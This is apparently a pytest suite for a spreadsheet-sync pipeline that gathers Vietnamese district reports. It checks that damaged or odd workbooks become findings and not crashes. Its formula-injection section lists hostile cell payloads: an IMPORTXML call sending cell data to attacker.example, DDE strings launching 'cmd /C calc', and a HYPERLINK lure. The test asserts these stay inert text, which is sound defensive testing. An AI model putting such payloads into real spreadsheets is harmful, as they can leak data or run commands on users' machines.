"""Hostile and odd input on the local backend: each case is a finding (or is read right),
never a crash, and what reaches the master is inert text.

Every case starts from the sample district after its first cycle (copied, so the cases stay
independent), damages one unit's workbook the way a person or another program would —
openpyxl directly, or `typist` for what a clerk types — and runs one more cycle.
"""

from __future__ import annotations

import datetime as dt
import time
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from openpyxl.workbook import Workbook

from cchc_sync.app.pipeline import Workspace, sync_once
from cchc_sync.sources.base import CHECK_TAB
from cchc_sync.sources.xlsx.common import workbook_bytes
from cchc_sync.sources.xlsx.formula_cache import restore_caches
from cchc_sync.testing.typist import set_cell, type_rows
from tests.conftest import Clock, synced_copy

PERIOD = "2022S1"
TTHC = "Giải quyết TTHC"
TRAINING = "Đào tạo, bồi dưỡng"
DOCS = "Văn bản chỉ đạo"


@pytest.fixture
def ws(synced_template, tmp_path) -> Workspace:
    """A fresh copy of the synced district; its clock is 30 minutes after the first cycle."""
    clock = Clock()
    clock.tick(30)
    workspace = synced_copy(synced_template, tmp_path / "district", clock)
    yield workspace
    workspace.close()


def book(ws: Workspace, unit: str) -> Path:
    return ws.config.root / ws.archive.sheets(PERIOD)[unit].ref


def edit(path: Path, change: Callable[[Workbook], None]) -> None:
    """Open, change and save a workbook, as a person would in a spreadsheet program."""
    wb = openpyxl.load_workbook(path)
    change(wb)
    wb.save(path)
    wb.close()


def findings(ws: Workspace, unit: str) -> list[tuple]:
    return sorted(
        (f.table, f.row, f.column, f.rule, f.value)
        for f in ws.archive.open_findings(PERIOD, unit)
    )


def rows(ws: Workspace, unit: str, table: str) -> dict[str, dict]:
    return {r.key: r.values for r in ws.archive.current_rows(PERIOD, unit=unit)
            if r.table == table}


def header(sheet) -> list:
    return [c.value for c in sheet[1]]


def column_of(sheet, title: str) -> int:
    return header(sheet).index(title) + 1


def resync(ws: Workspace) -> None:
    result = sync_once(ws)
    assert result.units_read >= 1
    assert result.units_unreachable == []


# -- header columns: found by title, not position -------------------------------------------


def test_renamed_column_is_one_finding_for_the_tab(ws):
    before = rows(ws, "TP", "tthc")
    edit(book(ws, "TP"), lambda wb: setattr(
        wb[TTHC].cell(row=1, column=column_of(wb[TTHC], "Tổng số hồ sơ tiếp nhận")),
        "value", "Tổng hồ sơ"))
    resync(ws)
    found = findings(ws, "TP")
    assert [(t, rule, col) for t, _r, col, rule, _v in found] == [
        ("tthc", "tab.column-missing", "tong_tiep_nhan")]
    message = next(f.message for f in ws.archive.open_findings(PERIOD, "TP"))
    assert '"Tổng số hồ sơ tiếp nhận"' in message and '"Tổng hồ sơ"' in message
    # The other columns are still read, row by row.
    after = rows(ws, "TP", "tthc")
    assert after.keys() == before.keys()
    for key, values in before.items():
        assert {k: v for k, v in values.items() if k != "tong_tiep_nhan"} == after[key]


def _move_column_to_end(wb: Workbook, tab: str, title: str) -> None:
    sheet = wb[tab]
    col = column_of(sheet, title)
    values = [sheet.cell(row=r, column=col).value for r in range(1, sheet.max_row + 1)]
    sheet.delete_cols(col)
    end = sheet.max_column + 1
    for r, value in enumerate(values, start=1):
        sheet.cell(row=r, column=end, value=value)


def test_moved_columns_are_read_by_title(ws):
    before = rows(ws, "TP", "tthc")

    def shuffle(wb):
        _move_column_to_end(wb, TTHC, "Tổng số hồ sơ tiếp nhận")
        _move_column_to_end(wb, TTHC, "Lĩnh vực")

    edit(book(ws, "TP"), shuffle)
    resync(ws)
    assert findings(ws, "TP") == []
    assert rows(ws, "TP", "tthc") == before
    # Flags follow the moved status column: every data row says it is valid.
    sheet = openpyxl.load_workbook(book(ws, "TP"))[TTHC]
    status = column_of(sheet, "Kết quả kiểm tra")
    assert [sheet.cell(row=r, column=status).value for r in (2, 3, 4)] == ["✔ Hợp lệ"] * 3


def test_a_heading_line_above_the_header_is_no_problem(ws):
    before = rows(ws, "TP", "tthc")
    edit(book(ws, "TP"), lambda wb: (wb[TTHC].insert_rows(1),
                                     setattr(wb[TTHC]["A1"], "value", "BÁO CÁO 6 THÁNG")))
    resync(ws)
    assert findings(ws, "TP") == []
    assert {k: v for k, v in rows(ws, "TP", "tthc").items()} == before


def test_deleted_column_is_one_finding_and_the_rest_is_read(ws):
    before = rows(ws, "TP", "dao_tao")
    edit(book(ws, "TP"), lambda wb: wb[TRAINING].delete_cols(
        column_of(wb[TRAINING], "Số lượt người")))
    resync(ws)
    assert [(t, rule, col) for t, _r, col, rule, _v in findings(ws, "TP")] == [
        ("dao_tao", "tab.column-missing", "so_nguoi")]
    assert rows(ws, "TP", "dao_tao").keys() == before.keys()


def test_duplicated_column_is_a_finding(ws):
    def duplicate(wb):
        sheet = wb[TRAINING]
        end = sheet.max_column + 1
        sheet.cell(row=1, column=end, value="Số lượt người")
        for r in range(2, sheet.max_row + 1):
            sheet.cell(row=r, column=end, value=999)

    edit(book(ws, "TP"), duplicate)
    resync(ws)  # must not crash, and the first column's values are still the ones used
    assert all(v["so_nguoi"] != 999 for v in rows(ws, "TP", "dao_tao").values())
    assert ("dao_tao", None, "so_nguoi", "tab.column-duplicate") in [
        f[:4] for f in findings(ws, "TP")]


# -- tabs -----------------------------------------------------------------------------------


def test_deleted_tab_is_one_finding_and_its_rows_are_kept(ws):
    before = rows(ws, "TP", "bien_che")
    assert before
    edit(book(ws, "TP"), lambda wb: wb.remove(wb["Biên chế"]))
    resync(ws)
    assert [(t, rule) for t, _r, _c, rule, _v in findings(ws, "TP")] == [
        ("bien_che", "tab.missing")]
    assert rows(ws, "TP", "bien_che") == before


def test_tab_renamed_in_case_and_spacing_is_still_found(ws):
    before = rows(ws, "TP", "tthc")
    edit(book(ws, "TP"), lambda wb: setattr(wb[TTHC], "title", "giải  quyết tthc"))
    resync(ws)
    assert findings(ws, "TP") == []
    assert rows(ws, "TP", "tthc") == before


def test_tab_renamed_to_something_else_is_one_finding(ws):
    edit(book(ws, "TP"), lambda wb: setattr(wb[TRAINING], "title", "Sheet1"))
    resync(ws)
    assert [(t, rule) for t, _r, _c, rule, _v in findings(ws, "TP")] == [
        ("dao_tao", "tab.missing")]


def test_deleted_check_tab_comes_back(ws):
    edit(book(ws, "XA_LT"), lambda wb: wb.remove(wb[CHECK_TAB]))
    sync_once(ws)
    assert CHECK_TAB in openpyxl.load_workbook(book(ws, "XA_LT")).sheetnames


# -- merged cells ---------------------------------------------------------------------------


def test_merged_data_cells_are_findings_not_a_crash(ws):
    def merge(wb):
        sheet = wb[TTHC]
        sheet.merge_cells("A2:A3")  # "Lĩnh vực" of row 3 disappears under row 2's

    edit(book(ws, "TP"), merge)
    resync(ws)
    found = findings(ws, "TP")
    assert ("tthc", 3, "linh_vuc", "row.required", None) in found
    assert all(row == 3 for _t, row, _c, _rule, _v in found)


def test_merged_header_cells_lose_one_title_as_one_finding(ws):
    def merge(wb):
        sheet = wb[TRAINING]
        sheet.merge_cells(start_row=1, start_column=1, end_row=1, end_column=2)

    edit(book(ws, "TP"), merge)
    resync(ws)
    assert [(t, rule, col) for t, _r, col, rule, _v in findings(ws, "TP")] == [
        ("dao_tao", "tab.column-missing", "so_nguoi")]


# -- formulas -------------------------------------------------------------------------------


def _with_formulas(path: Path, tab: str, cells: dict[str, tuple[str, object]]) -> None:
    """Formulas with the results Excel cached for them (openpyxl alone writes none)."""
    wb = openpyxl.load_workbook(path)
    for coord, (formula, _cached) in cells.items():
        wb[tab][coord] = formula
    data = workbook_bytes(wb)
    epoch = wb.epoch
    wb.close()
    caches = {tab: {coord: cached for coord, (_f, cached) in cells.items()}}
    path.write_bytes(restore_caches(data, caches, epoch))


def test_formulas_are_read_by_their_results(ws):
    path = book(ws, "TP")
    before = rows(ws, "TP", "tthc")
    sheet = openpyxl.load_workbook(path, data_only=True)[TTHC]
    col = column_of(sheet, "Tổng số hồ sơ tiếp nhận")
    letter = openpyxl.utils.get_column_letter(col)
    cells = {f"{letter}{r}": (f"=B{r}+C{r}+D{r}", sheet.cell(row=r, column=col).value)
             for r in (2, 3, 4)}
    _with_formulas(path, TTHC, cells)
    assert openpyxl.load_workbook(path)[TTHC][f"{letter}2"].data_type == "f"
    resync(ws)
    assert findings(ws, "TP") == []
    assert rows(ws, "TP", "tthc") == before
    # Flags were written around the formulas and kept them (and their results).
    wb = openpyxl.load_workbook(path)
    assert wb[TTHC][f"{letter}2"].value == "=B2+C2+D2"
    cached = openpyxl.load_workbook(path, data_only=True)[TTHC][f"{letter}2"].value
    assert cached == cells[f"{letter}2"][1]


@pytest.mark.parametrize("error", ["#REF!", "#DIV/0!", "#N/A"])
def test_formula_errors_are_findings(ws, error):
    path = book(ws, "TP")
    sheet = openpyxl.load_workbook(path)[TTHC]
    letter = openpyxl.utils.get_column_letter(column_of(sheet, "Đã giải quyết quá hạn"))
    formula = {"#REF!": "=#REF!+1", "#DIV/0!": "=B3/0", "#N/A": "=NA()"}[error]
    _with_formulas(path, TTHC, {f"{letter}3": (formula, error)})
    resync(ws)
    found = findings(ws, "TP")
    assert ("tthc", 3, "qua_han", "cell.formula-error", error) in found
    # The error is a finding on its cell, not a number: the row's sum rule is skipped.
    assert [f for f in found if f[1] == 3 and f[3] != "cell.formula-error"] == []


def test_formula_error_codes_typed_as_text_are_findings_too(ws):
    set_cell(book(ws, "TP"), TRAINING, 2, "Số lượt người", "#N/A")
    resync(ws)
    assert ("dao_tao", 2, "so_nguoi", "cell.formula-error", "#N/A") in findings(ws, "TP")


# -- size -----------------------------------------------------------------------------------


def test_a_50000_row_tab_completes_in_one_cycle(ws):
    path = book(ws, "TP")

    def grow(wb):
        sheet = wb[TRAINING]
        for i in range(50_000):
            sheet.append([f"Lớp bồi dưỡng số {i + 1}", i % 40 + 1])

    edit(path, grow)
    # CPU time of this process, not the wall clock: the bound is about the work a cycle
    # does, which a machine busy with other jobs does not change.
    started = time.process_time()
    result = sync_once(ws)
    elapsed = time.process_time() - started
    print(f"50,000-row tab: one cycle in {elapsed:.1f} s of CPU")
    assert elapsed < 120
    assert result.units_read == 1 and result.units_unreachable == []
    training = rows(ws, "TP", "dao_tao")
    assert len(training) == 50_000 + 3
    assert findings(ws, "TP") == []
    assert result.master_written


def _put_long_text(path: Path, placeholder: str, text: str) -> None:
    """Put a text longer than Excel's 32,767 characters into the cell holding
    `placeholder`: openpyxl and Excel cut such text, other programs write it whole."""
    import io
    import zipfile
    from xml.sax.saxutils import escape

    src = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/") and placeholder.encode() in data:
                data = data.replace(placeholder.encode(), escape(text).encode("utf-8"))
            dst.writestr(info, data)
    path.write_bytes(out.getvalue())


LONG_TEXT = "Kế hoạch cải cách hành chính " + "rất dài " * 6_250


def _type_long_document(ws: Workspace, number: str) -> Path:
    path = book(ws, "TP")
    type_rows(path, {DOCS: [{"Số, ký hiệu": number, "Ngày ban hành": "05/03/2022",
                             "Loại văn bản": "Kế hoạch", "Trích yếu nội dung": "DAI-QUA"}]},
              start_row=3)
    _put_long_text(path, "DAI-QUA", LONG_TEXT)
    assert len(openpyxl.load_workbook(path, read_only=True)[DOCS]["D3"].value) > 50_000
    return path


def test_a_50000_character_cell(ws):
    assert len(LONG_TEXT) >= 50_000
    _type_long_document(ws, "99/KH-UBND")
    resync(ws)
    docs = rows(ws, "TP", "van_ban")
    stored = next(v["trich_yeu"] for v in docs.values() if v["so_ky_hieu"].startswith("99"))
    assert stored.startswith("Kế hoạch cải cách")
    # Wherever it is shown, it is cut to what Excel holds.
    master = openpyxl.load_workbook(ws.config.root / ws.archive.master(PERIOD)["ref"])
    cells = [c for row in master[DOCS].iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("Kế hoạch cải cách hành chính rất")]
    assert len(cells) == 1 and len(cells[0].value) <= 32_767


def test_a_50000_character_cell_is_a_finding(ws):
    _type_long_document(ws, "98/KH-UBND")
    resync(ws)
    assert any(f[2] == "trich_yeu" and f[3] == "cell.text.too-long" for f in findings(ws, "TP"))


# -- characters -----------------------------------------------------------------------------


def test_control_characters_emoji_and_right_to_left_marks(ws):
    path = book(ws, "TP")
    # "_x0007_" is how an .xlsx stores a control character (BEL): other programs write it.
    typed = {
        "Nội dung đào tạo, bồi dưỡng":
            "\u202bTập huấn\u200f kỹ năng số 🎓\u200b_x0007_ cho\u202e công chức\ufeff",
        "Số lượt người": "\u200f12\u200e",
    }
    type_rows(path, {TRAINING: [typed]}, start_row=5)
    edit(path, lambda wb: setattr(wb[TRAINING].cell(row=1, column=1), "value",
                                  "Nội dung\u200b đào tạo,\u00a0bồi dưỡng"))
    resync(ws)
    assert findings(ws, "TP") == []
    training = rows(ws, "TP", "dao_tao")
    row = next(v for v in training.values() if "🎓" in v["noi_dung"])
    assert row["noi_dung"] == "Tập huấn kỹ năng số 🎓 cho công chức"
    assert row["so_nguoi"] == 12
    master = openpyxl.load_workbook(ws.config.root / ws.archive.master(PERIOD)["ref"])
    shown = [c.value for r in master[TRAINING].iter_rows() for c in r
             if isinstance(c.value, str) and "Tập huấn kỹ năng số" in c.value]
    assert shown == ["Tập huấn kỹ năng số 🎓 cho công chức"]


# -- formula injection ----------------------------------------------------------------------

INJECTIONS = [
    '=IMPORTXML("http://attacker.example/?q="&A1,"//a")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    '=HYPERLINK("http://attacker.example","Bấm vào đây")',
]


def test_formula_injection_text_reaches_the_master_as_inert_text(ws):
    path = book(ws, "TP")
    docs = [{"Số, ký hiệu": f"{200 + i}/KH-UBND", "Ngày ban hành": "05/03/2022",
             "Loại văn bản": "Kế hoạch", "Trích yếu nội dung": text}
            for i, text in enumerate(INJECTIONS)]
    type_rows(path, {DOCS: docs}, start_row=3)
    type_rows(path, {TRAINING: [{"Nội dung đào tạo, bồi dưỡng": text, "Số lượt người": 5}
                                for text in INJECTIONS]}, start_row=5)
    # Typed into a number column: a finding whose value is shown back to the clerk.
    set_cell(path, TRAINING, 2, "Số lượt người", "=1+1")
    typed = openpyxl.load_workbook(path)[DOCS]
    assert {typed.cell(row=3 + i, column=4).data_type for i in range(len(INJECTIONS))} == {"s"}
    resync(ws)
    assert ("dao_tao", 2, "so_nguoi") in {f[:3] for f in findings(ws, "TP")}

    master = openpyxl.load_workbook(ws.config.root / ws.archive.master(PERIOD)["ref"])
    for tab in (DOCS, TRAINING):
        cells = {c.value: c for r in master[tab].iter_rows() for c in r
                 if isinstance(c.value, str)}
        for text in INJECTIONS:
            assert text in cells, (tab, text)
            assert cells[text].data_type == "s", (tab, text)
        formulas = [c.coordinate for r in master[tab].iter_rows() for c in r
                    if c.data_type == "f"]
        assert formulas == [], tab
    anomalies = {c.value: c for r in master["Bất thường"].iter_rows() for c in r}
    assert anomalies["=1+1"].data_type == "s"
    # The clerk's own workbook: typed text stays text; the check tab shows it inert.
    wb = openpyxl.load_workbook(path)
    for i, text in enumerate(INJECTIONS):
        cell = wb[DOCS].cell(row=3 + i, column=4)
        assert (cell.value, cell.data_type) == (text, "s")
    shown = {c.value: c for r in wb[CHECK_TAB].iter_rows() for c in r}
    assert shown["=1+1"].data_type == "s"
    assert not [c for r in wb[CHECK_TAB].iter_rows() for c in r if c.data_type == "f"]


def test_the_check_tab_and_master_keep_dates_real(ws):
    """Sanity for the injection test: inert text is about text, not every value."""
    master = openpyxl.load_workbook(ws.config.root / ws.archive.master(PERIOD)["ref"])
    dates = [c.value for r in master[DOCS].iter_rows(min_row=2) for c in r
             if isinstance(c.value, dt.datetime | dt.date)]
    assert dates
